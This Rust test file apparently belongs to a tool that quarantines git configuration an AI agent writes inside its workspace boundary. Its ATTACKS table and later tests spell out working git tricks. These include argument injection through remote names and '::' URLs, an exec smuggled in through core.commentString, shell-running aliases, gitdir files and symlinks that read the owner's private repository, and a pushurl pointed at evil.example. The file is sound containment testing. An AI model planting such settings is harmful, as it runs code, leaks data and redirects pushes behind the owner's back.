//! What git runs, reads and writes because of settings in a repository that the agent has made. Git itself is run first, to show
//! what it does with them.

use super::repositories::{committed, git, move_all};
use super::*;

/// What an agent does in a new repository `sub`, what the owner does then, and how it is seen that this was an attack.
///
/// Beside the boundary lies `private`, a repository of the owner's. What git has run leaves a file `trace` there.
struct Attack {
    agent: &'static str,
    owner: &'static str,
    succeeded: &'static str,
}

const TRACE: &str = "test -e ../trace";

/// A commit of a promisor, of which an object is missing.
const PROMISE: &str = "mkdir d; echo x > d/f; git add .; git commit -q -m d; t=$(git rev-parse HEAD:d);
     rm -f .git/index; find .git/objects -path \"*${t#??}\" -delete";

pub(super) fn sh(boundary: &Boundary, directory: &str, script: &str) -> bool {
    let mut shell = Command::new("sh");
    let shell = shell.args(["-c", script]).current_dir(boundary.host.join(directory)).env_clear();
    for (name, value) in [
        ("PATH", std::env::var_os("PATH").unwrap()),
        ("HOME", boundary.host.clone().into()),
        ("TOP", boundary.host.parent().unwrap().into()),
        ("GIT_CONFIG_NOSYSTEM", "1".into()),
        ("GIT_EDITOR", "true".into()),
    ] {
        shell.env(name, value);
    }
    for name in ["GIT_AUTHOR", "GIT_COMMITTER"] {
        shell.env(format!("{name}_NAME"), "a").env(format!("{name}_EMAIL"), "a@b");
    }
    shell.output().unwrap().status.success()
}

/// A boundary in which the agent has a repository with a commit, and nothing else of interest.
fn prepared() -> Boundary {
    let (boundary, outside) = committed();
    let private = outside.with_file_name("private");
    git(private.parent().unwrap(), &["init", "-q", "-b", "main", "private"]);
    fs::write(private.join("secret"), "PRIVATE").unwrap();
    git(&private, &["add", "."]);
    git(&private, &["commit", "-q", "-m", "private"]);
    boundary
}

fn attack(boundary: &Boundary, agent: &str) {
    let made = "git init -q -b main sub && cd sub && git commit -q --allow-empty -m one";
    assert!(sh(boundary, "", &format!("{made}\n{}", agent.replace("PROMISE", PROMISE))), "{agent}");
}

const ATTACKS: &[Attack] = &[
    // Git hands the name of a remote to its children.
    Attack {
        agent: "PROMISE; git config remote.origin.url .
                printf '[remote \"--upload-pack=touch %s/trace;false\"]\\n\\turl = .\\n\\tpromisor = true\\n' $TOP >> .git/config",
        owner: "cd sub; git status",
        succeeded: TRACE,
    },
    Attack {
        agent: "git config remote.origin.url .; printf '[remote \"--upload-pack=touch %s/trace;false\"]\\n\\turl = .\\n' $TOP >> .git/config",
        owner: "cd sub; git fetch --all",
        succeeded: TRACE,
    },
    Attack {
        agent: "PROMISE; git -C .. add sub
                printf '[remote \"--upload-pack=touch %s/trace;false\"]\n\turl = .\n\tpromisor = true\n' $TOP >> .git/config",
        owner: "git status",
        succeeded: TRACE,
    },
    // For a URL with `::`, it looks for an alias, too.
    Attack {
        agent: "git config remote.origin.url \"x::--upload-pack=touch $TOP/trace;false\"; git config alias.remote-x 'fetch .'",
        owner: "cd sub; git fetch",
        succeeded: TRACE,
    },
    Attack {
        agent: "git config branch.main.remote \"x::--upload-pack=touch $TOP/trace;false\"; git config alias.remote-x 'clone .'
                git config branch.main.merge refs/heads/main",
        owner: "cd sub; git fetch",
        succeeded: TRACE,
    },
    Attack {
        agent: "git config remote.origin.url \"x://--upload-pack=touch $TOP/trace;false\"; git config alias.remote-x '!touch $TOP/trace; :'",
        owner: "cd sub; git fetch",
        succeeded: TRACE,
    },
    // Its own list of commands begins with what marks a comment.
    Attack {
        agent: "git branch f; echo a > a; git add a; git commit -q -m more; git checkout -q f; echo b > b; git add b; git commit -q -m b
                git checkout -q -b side f~1; echo c > c; git add c; git commit -q -m c; git checkout -q f; git merge -q --no-edit side
                git config core.commentString \"$(printf '\\t')exec touch $TOP/trace #\"; git config rebase.rebaseMerges true",
        owner: "cd sub; git rebase main",
        succeeded: TRACE,
    },
    // Options of a merge, and words of an alias, may name any file.
    Attack {
        agent: "git checkout -q -b f; git commit -q --allow-empty -m two; git checkout -q main
                git config branch.main.mergeOptions \"--no-ff -F $TOP/outside\"",
        owner: "cd sub; git merge f",
        succeeded: "git -C sub log -1 --format=%B | grep -q own",
    },
    Attack {
        agent: "git config alias.st \"clone -q . $TOP/trace\"",
        owner: "cd sub; git st",
        succeeded: TRACE,
    },
    // A repository of the owner's is read where a URL leads out: as it stands, through a link, and by the name of a remote without one.
    Attack {
        agent: "git remote add origin $TOP/private",
        owner: "cd sub; git fetch",
        succeeded: "git -C sub cat-file -e origin/main:secret",
    },
    Attack {
        agent: "for i in $(seq 300); do printf '[remote \"r%s\"]\n\turl = ..\n' $i; done >> .git/config
                git remote add origin $TOP/private",
        owner: "cd sub; git fetch origin",
        succeeded: "git -C sub cat-file -e origin/main:secret",
    },
    Attack {
        agent: "git remote add origin ../../private",
        owner: "cd sub; git fetch",
        succeeded: "git -C sub cat-file -e origin/main:secret",
    },
    Attack {
        agent: "git remote add origin file://$TOP/private/.git",
        owner: "cd sub; git fetch",
        succeeded: "git -C sub cat-file -e origin/main:secret",
    },
    Attack {
        agent: "git config branch.main.remote $TOP/private; git config branch.main.merge refs/heads/main",
        owner: "cd sub; git fetch",
        succeeded: "git -C sub cat-file -e FETCH_HEAD:secret",
    },
    // For git, a file in the place of a repository says where that is.
    Attack {
        agent: "echo 'gitdir: ../../private/.git' > gf; git remote add origin gf",
        owner: "cd sub; git fetch",
        succeeded: "git -C sub cat-file -e origin/main:secret",
    },
    Attack {
        agent: "echo 'gitdir: ../../private/.git' > x.git; git remote add origin ./x",
        owner: "cd sub; git fetch",
        succeeded: "git -C sub cat-file -e origin/main:secret",
    },
    Attack {
        agent: "echo 'gitdir: ../../private/.git' > gf; git remote add origin file://$TOP/workspace/sub/gf",
        owner: "cd sub; git fetch",
        succeeded: "git -C sub cat-file -e origin/main:secret",
    },
    Attack {
        agent: "mkdir d; echo 'gitdir: ../../private/.git' > d/gf; ln -s d/gf gf
                git config branch.main.remote $TOP/workspace/sub/gf; git config branch.main.merge refs/heads/main",
        owner: "cd sub; git fetch",
        succeeded: "git -C sub cat-file -e FETCH_HEAD:secret",
    },
    Attack {
        agent: "ln -s ../../private way; git config remote.way.prune true; git config branch.main.remote way
                git config branch.main.merge refs/heads/main",
        owner: "cd sub; git fetch",
        succeeded: "git -C sub cat-file -e FETCH_HEAD:secret",
    },
];

#[test]
fn settings_that_have_git_run_read_or_write_something_are_quarantined() {
    for Attack { agent, owner, succeeded } in ATTACKS {
        let boundary = prepared();
        attack(&boundary, agent);
        sh(&boundary, "", owner);
        assert!(sh(&boundary, "", succeeded), "the control: {agent}");

        let boundary = prepared();
        let baseline = boundary.baseline();
        attack(&boundary, agent);
        let moved = move_all(&boundary, &baseline);
        let configuration = Path::new("sub/.git/config");
        assert!(
            moved.iter().any(|one| one.path == configuration && one.origin == FindingOrigin::Created),
            "{agent}: {moved:?}"
        );
        sh(&boundary, "", owner);
        assert!(!sh(&boundary, "", succeeded), "{agent}");
        assert_eq!(boundary.compare(&baseline), []);
    }
}

/// On the host there is nothing at a path inside. At another one there may be a disk, once it is mounted.
#[test]
fn a_path_at_which_nothing_is_counts_unless_it_is_one_inside() {
    for (url, counts) in
        [("/no-such-directory/sub", false), ("/no-such-directory/disk/x", true), ("./x", true)]
    {
        let boundary = prepared();
        let baseline = boundary.baseline();
        attack(&boundary, &format!("git remote add origin {url}"));
        assert_eq!(boundary.paths(&baseline).contains(&"sub/.git/config".into()), counts, "{url}");
    }
}

/// The owner shares a linked work tree, or a clone that borrows objects: what belongs to it outside is not shared.
#[test]
fn a_repository_in_the_boundary_that_leads_out_of_it_is_no_place_to_fetch_from() {
    for lead in ["git -C ../private worktree add -q $TOP/workspace/tree", "git clone -q -s ../private tree"] {
        let prepared = || {
            let boundary = prepared();
            assert!(sh(&boundary, "", lead), "{lead}");
            assert!(sh(&boundary, "", "git -C ../private commit -q --allow-empty -m x"));
            boundary.until_the_clock_is_past("tree/.git");
            boundary
        };
        let agent = "git remote add origin ../tree";
        let is_read = |boundary: &Boundary| {
            sh(boundary, "sub", "git fetch");
            sh(boundary, "sub", "git cat-file -e origin/main:secret")
        };
        let boundary = prepared();
        attack(&boundary, agent);
        assert!(is_read(&boundary), "the control: {lead}");

        let boundary = prepared();
        let baseline = boundary.baseline();
        attack(&boundary, agent);
        let moved: Vec<_> = move_all(&boundary, &baseline).into_iter().map(|one| one.path).collect();
        assert_eq!(moved, [PathBuf::from("sub/.git/config")], "{lead}");
        assert!(!is_read(&boundary), "{lead}");
    }
}

/// A file in the place of a repository may lead to one in the boundary, and that one out of it.
#[test]
fn a_file_that_leads_to_such_a_repository_is_no_place_to_fetch_from() {
    for agent in [
        "echo 'gitdir: ../tree/.git' > gf; git remote add origin gf",
        "mkdir way; echo 'gitdir: ../../tree/.git' > way/.git; git remote add origin ./way",
        "ln -s ../tree/.git gf; git remote add origin gf",
    ] {
        let prepared = || {
            let boundary = prepared();
            assert!(sh(&boundary, "", "git clone -q -s ../private tree"));
            assert!(sh(&boundary, "", "git -C ../private commit -q --allow-empty -m x"));
            boundary.until_the_clock_is_past("tree/.git");
            boundary
        };
        let is_read = |boundary: &Boundary| {
            sh(boundary, "sub", "git fetch");
            sh(boundary, "sub", "git cat-file -e origin/main:secret")
        };
        let boundary = prepared();
        attack(&boundary, agent);
        assert!(is_read(&boundary), "the control: {agent}");

        let boundary = prepared();
        let baseline = boundary.baseline();
        attack(&boundary, agent);
        let moved: Vec<_> = move_all(&boundary, &baseline).into_iter().map(|one| one.path).collect();
        assert!(moved.contains(&"sub/.git/config".into()), "{agent}: {moved:?}");
        assert!(!is_read(&boundary), "{agent}");
    }
}

#[test]
fn a_file_that_leads_to_a_repository_in_the_boundary_stays_and_is_protected() {
    let boundary = prepared();
    let before = "git init -q ../other; echo 'gitdir: ../other/.git' > gf; git remote add origin gf";
    let baseline = boundary.baseline();
    attack(&boundary, before);
    assert_eq!(boundary.compare(&baseline), []);
    assert!(boundary.read_only().contains(&"sub/gf".to_owned()));
    let hook = "other/.git/hooks/pre-receive";
    boundary.write(hook, "evil");
    assert_eq!(boundary.paths(&baseline), [hook]);
    // A later run may put a file in the place of a repository.
    let boundary = prepared();
    attack(&boundary, "git init -q --bare way; rm -r way/hooks way/config; git remote add origin ./way");
    let baseline = boundary.baseline();
    assert!(sh(&boundary, "sub", "rm -r way; echo 'gitdir: ../../private/.git' > way"));
    assert_eq!(boundary.paths(&baseline), ["sub/way"]);
}

/// In one run the path leads to a repository of the agent's, in the next one to that of the owner.
#[test]
fn a_link_in_the_place_of_a_repository_that_a_setting_names_is_quarantined() {
    let before = |boundary: &Boundary| {
        attack(boundary, "git init -q way; git remote add origin ./way");
        sh(boundary, "", "touch .git/index");
        boundary.until_the_clock_is_past(".git/index");
    };
    let exchange = "rm -rf way; ln -s ../../private way";
    let is_read = |boundary: &Boundary| {
        sh(boundary, "sub", "git fetch");
        sh(boundary, "sub", "git cat-file -e origin/main:secret")
    };
    let boundary = prepared();
    before(&boundary);
    sh(&boundary, "sub", exchange);
    assert!(is_read(&boundary), "the control");

    let boundary = prepared();
    let baseline = boundary.baseline();
    before(&boundary);
    assert_eq!(boundary.compare(&baseline), [], "a repository in the boundary, which was searched");
    let baseline = boundary.baseline();
    sh(&boundary, "sub", exchange);
    let moved: Vec<_> = move_all(&boundary, &baseline).into_iter().map(|one| one.path).collect();
    assert!(moved.contains(&"sub/way".into()), "{moved:?}");
    assert!(!is_read(&boundary));
}

#[test]
fn a_new_configuration_that_an_old_repository_reads_overrides_nothing_of_it() {
    let evil = "[remote \"origin\"]\npushurl = https://evil.example/x\n";
    let prepare = || {
        let boundary = prepared();
        assert!(sh(&boundary, "", "git remote add origin https://example.org/x"));
        for included in [".shared-gitconfig", ".gitconfig"] {
            assert!(sh(&boundary, "", &format!("git config --add include.path ../{included}")));
        }
        assert!(sh(&boundary, "", "git config extensions.worktreeConfig true"));
        boundary
    };
    let pushes_to = |boundary: &Boundary, directory: &str| {
        git(&boundary.host.join(directory), &["remote", "get-url", "--push", "origin"])
    };
    let linked = |boundary: &Boundary| {
        git(&boundary.host, &["worktree", "add", "-q", "new"]);
        boundary.write(".git/worktrees/new/config.worktree", evil);
    };
    for (path, directory) in [
        (".shared-gitconfig", ""),
        (".gitconfig", ""),
        (".git/config.worktree", ""),
        (".git/worktrees/new/config.worktree", "new"),
    ] {
        let boundary = prepare();
        let baseline = boundary.baseline();
        if directory.is_empty() {
            boundary.write(path, evil);
        } else {
            linked(&boundary);
        }
        assert_eq!(pushes_to(&boundary, directory), "https://evil.example/x\n", "the control: {path}");
        let found: Vec<_> = move_all(&boundary, &baseline).into_iter().map(|one| one.path).collect();
        assert!(found.contains(&path.into()), "{path}: {found:?}");
        assert_eq!(pushes_to(&boundary, directory), "https://example.org/x\n", "{path}");
    }
    // What git writes there itself stays.
    let boundary = prepare();
    let baseline = boundary.baseline();
    assert!(sh(&boundary, "", "git sparse-checkout set --cone sub"));
    assert!(boundary.host.join(".git/config.worktree").exists(), "the control");
    assert!(!boundary.paths(&baseline).contains(&".git/config.worktree".to_owned()));
}

#[test]
fn a_new_configuration_of_a_work_tree_does_not_have_git_run_hooks_from_where_it_is_called() {
    const HOOK: &str = "#!/bin/sh\ntouch $TOP/trace\n";
    let prepare = || {
        let boundary = prepared();
        assert!(sh(&boundary, "", "git config core.hooksPath .githooks && git worktree add -q linked"));
        assert!(sh(&boundary, "", "git config extensions.worktreeConfig true && mkdir .githooks linked/d"));
        boundary
    };
    let attack = |boundary: &Boundary, path: &str, directory: &str| {
        boundary.write(path, "[core]\n\tbare = true\n");
        let hook = format!("{directory}/.githooks/reference-transaction");
        boundary.write(&hook, HOOK).mode(&hook, 0o755);
    };
    let is_run = |boundary: &Boundary, directory: &str| {
        assert!(sh(boundary, directory, "git tag -f v1"));
        fs::remove_file(boundary.host.with_file_name("trace")).is_ok()
    };
    for (path, directory) in
        [(".git/config.worktree", "d"), (".git/worktrees/linked/config.worktree", "linked/d")]
    {
        let boundary = prepare();
        let baseline = boundary.baseline();
        attack(&boundary, path, directory);
        assert!(is_run(&boundary, directory), "the control: {path}");
        let found: Vec<_> = move_all(&boundary, &baseline).into_iter().map(|one| one.path).collect();
        assert_eq!(found, [Path::new(path)]);
        assert!(!is_run(&boundary, directory), "{path}");
    }
    // Of a repository that is bare beside its work trees, git takes what it needs itself.
    let boundary = prepare();
    boundary.write(".git/config.worktree", "[core]\n\tbare = true\n\tsparseCheckout = true\n");
    let baseline = boundary.baseline();
    assert!(sh(&boundary, "", "git worktree add -q more && cd more && git sparse-checkout set d"));
    assert!(boundary.host.join(".git/worktrees/more/config.worktree").exists(), "the control");
    assert_eq!(boundary.compare(&baseline), []);
}

#[test]
fn a_replaced_configuration_that_leads_elsewhere_is_reported_and_stays() {
    let boundary = prepared();
    assert!(sh(&boundary, "", "git remote add origin https://example.org/x"));
    boundary.until_the_clock_is_past(".git/config");
    let baseline = boundary.baseline();
    assert!(sh(&boundary, "", "git config remote.origin.pushurl https://evil.example/x"));
    assert_eq!(
        git(&boundary.host, &["remote", "get-url", "--push", "origin"]),
        "https://evil.example/x\n",
        "the control"
    );
    let found: Vec<_> = boundary.compare(&baseline).into_iter().map(|one| (one.reason, one.origin)).collect();
    let reason = Reason::Reconfigured { settings: vec!["remote.origin.pushurl".into()] };
    assert_eq!(found, [(reason, FindingOrigin::Earlier)]);
}

#[test]
fn a_replaced_configuration_neither_runs_other_hooks_nor_loses_a_filter_unsaid() {
    let prepare = |settings: &str| {
        let boundary = prepared();
        assert!(sh(&boundary, "", settings));
        boundary.write("d/.githooks/reference-transaction", "#!/bin/sh\ntouch $TOP/trace\n");
        boundary.mode("d/.githooks/reference-transaction", 0o755).write(".githooks/x", "");
        boundary.until_the_clock_is_past(".git/config");
        let baseline = boundary.baseline();
        (boundary, baseline)
    };
    let found = |boundary: &Boundary, baseline: &Baseline| {
        let found = boundary.compare(baseline).into_iter();
        found.map(|one| (one.path, one.reason, one.origin)).collect::<Vec<_>>()
    };
    let (boundary, baseline) = prepare("git config core.hooksPath .githooks");
    assert!(sh(&boundary, "", "git config branch.main.vscode-merge-base origin/main"));
    assert_eq!(found(&boundary, &baseline), [], "an editor's own");
    assert!(sh(&boundary, "", "git config core.bare true"));
    assert!(
        sh(&boundary, "d", "git tag v1") && boundary.host.with_file_name("trace").exists(),
        "the control"
    );
    let all = found(&boundary, &baseline);
    assert!(
        matches!(&all[..], [(path, _, FindingOrigin::Replaced)] if path == Path::new(".git/config")),
        "{all:?}"
    );
    // Your own configuration may name such a directory, and the one of the repository an encryption.
    for (before, now, setting) in [
        ("true", "git config core.bare true", "core.bare"),
        ("git config filter.enc.clean base64", "git config --remove-section filter.enc", "filter.enc.clean"),
        (
            "git config url.DISABLED:.pushInsteadOf x:",
            "git config --remove-section url.DISABLED:",
            "url.DISABLED:.pushinsteadof",
        ),
        ("true", "git config push.pushOption merge_request.create", "push.pushoption"),
    ] {
        let (boundary, baseline) = prepare(before);
        assert!(sh(&boundary, "", now));
        let reason = Reason::Reconfigured { settings: vec![setting.into()] };
        assert_eq!(found(&boundary, &baseline), [(".git/config".into(), reason, FindingOrigin::Earlier)]);
    }
}

#[test]
fn what_a_replaced_configuration_had_before_is_no_news() {
    let of_owner = "[alias]\n\tst = status\n\tlg = !git log\n[core]\n\tpager = less\n[remote \"origin\"]\n\turl = ../private\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n";
    for before in ["", of_owner] {
        let boundary = prepared();
        let config = fs::read_to_string(boundary.host.join(".git/config")).unwrap();
        boundary.write(".git/config", &format!("{config}{before}")).until_the_clock_is_past(".git/config");
        let baseline = boundary.baseline();
        for ordinary in [
            "git config branch.main.remote . && git config branch.main.merge refs/heads/main",
            "git checkout -q -b topic/1 && git branch -q --set-upstream-to=main",
            "git config branch.topic/1.vscode-merge-base origin/main",
            "git worktree add -q -b w w && git worktree remove w",
            "git sparse-checkout set --cone . && git sparse-checkout disable",
            "git maintenance run --auto && git gc -q",
        ] {
            assert!(sh(&boundary, "", ordinary), "{ordinary}");
            assert_eq!(boundary.compare(&baseline), [], "{ordinary}");
        }
        // What has changed is said, whoever it was.
        let config = fs::read(boundary.host.join(".git/config")).unwrap();
        for (ordinary, settings) in [
            ("git config user.email a@b.c", &["user.email"][..]),
            ("git config pull.rebase true", &["pull.rebase"]),
            ("git remote add server git@example.org:a/b.git", &["remote.server.fetch", "remote.server.url"]),
        ] {
            assert!(sh(&boundary, "", ordinary), "{ordinary}");
            let settings = settings.iter().map(|&setting| setting.to_owned()).collect();
            let found: Vec<_> = boundary.compare(&baseline).into_iter().map(|one| one.reason).collect();
            assert_eq!(found, [Reason::Reconfigured { settings }], "{ordinary}");
            fs::write(boundary.host.join(".git/config"), &config).unwrap();
        }
        let replaced = |setting: &str| {
            let kept = fs::read(boundary.host.join(".git/config")).unwrap();
            assert!(sh(&boundary, "", setting), "{setting}");
            let found = boundary.compare(&baseline);
            let found: Vec<_> = found.iter().map(|one| (one.path.to_str().unwrap(), one.origin)).collect();
            assert_eq!(found, [(".git/config", FindingOrigin::Replaced)], "{setting}");
            fs::write(boundary.host.join(".git/config"), kept).unwrap();
        };
        replaced("git config alias.new status");
        replaced("git remote add more $TOP/private");
        replaced("git config remote.pushDefault $TOP/private");
    }
}
